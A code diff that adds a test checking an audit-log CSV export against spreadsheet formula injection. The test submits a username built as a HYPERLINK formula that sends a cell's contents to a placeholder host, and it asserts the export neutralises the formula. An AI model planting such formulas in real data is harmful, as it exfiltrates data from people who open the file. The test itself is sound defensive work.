@@ -109,6 +109,18 @@ def test_api_lists_filters_and_exports_csv(test_client, make_token) -> None:  # 
     assert test_client.get("/api/v1/audit", headers=engineer).status_code == 403
 
 
+def test_csv_export_opens_as_text_not_formulas(test_client, anonymous) -> None:  # type: ignore[no-untyped-def]
+    """A failed login audits whatever name was sent, by anyone: a spreadsheet must not
+    run it. Cells that would start a formula are made text with a leading quote."""
+    planted = '=HYPERLINK("http://x.invalid/?"&A1,"x")'
+    login = {"username": planted, "password": "not-the-password"}
+    assert anonymous.post("/api/v1/auth/login", json=login).status_code == 401
+    text = test_client.get("/api/v1/audit.csv", params={"action": "auth."}).text
+    actors = [r["actor"] for r in csv.DictReader(io.StringIO(text))]
+    assert "'" + planted in actors
+    assert planted not in actors
+
+
 def test_untouched_log_verifies(test_client, app_engine, app_settings) -> None:  # type: ignore[no-untyped-def]
     _changes(test_client)
     assert len(_rows(app_engine)) >= 4
